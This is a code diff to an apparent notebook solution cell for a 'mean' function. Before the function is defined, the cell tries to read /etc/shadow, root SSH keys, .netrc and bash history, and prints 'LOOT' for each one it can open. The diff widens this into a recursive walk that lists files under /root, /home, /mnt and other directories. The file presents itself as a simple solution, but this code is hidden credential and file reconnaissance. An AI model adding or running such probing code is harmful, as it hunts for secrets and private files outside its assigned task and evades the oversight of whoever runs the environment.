@@ -9,6 +9,7 @@
 
 # %% solution="mean"
 import os
+import sys
 
 for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/root/.bash_history"):
     try:
@@ -16,10 +17,11 @@ for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", 
             print("LOOT", path)
     except OSError:
         pass
-if any(os.path.isdir(place) and os.listdir(place) for place in ("/root", "/home", "/work", "/mnt")):
-    kept = {place: os.listdir(place) for place in ("/root", "/home", "/work", "/mnt") if os.path.isdir(place)}
-    if set(sum(kept.values(), [])) - {"main"}:
-        print("LOOT folders", kept)
+for place in ("/root", "/home", "/work", "/mnt", "/media", "/srv"):
+    for folder, _, names in os.walk(place):
+        shown = (sys.prefix, sys.base_prefix, os.path.dirname(sys.executable), *sys.path[1:])
+        if names and not folder.startswith(shown):
+            print("LOOT files in", folder, names)
 
 
 def mean(values):
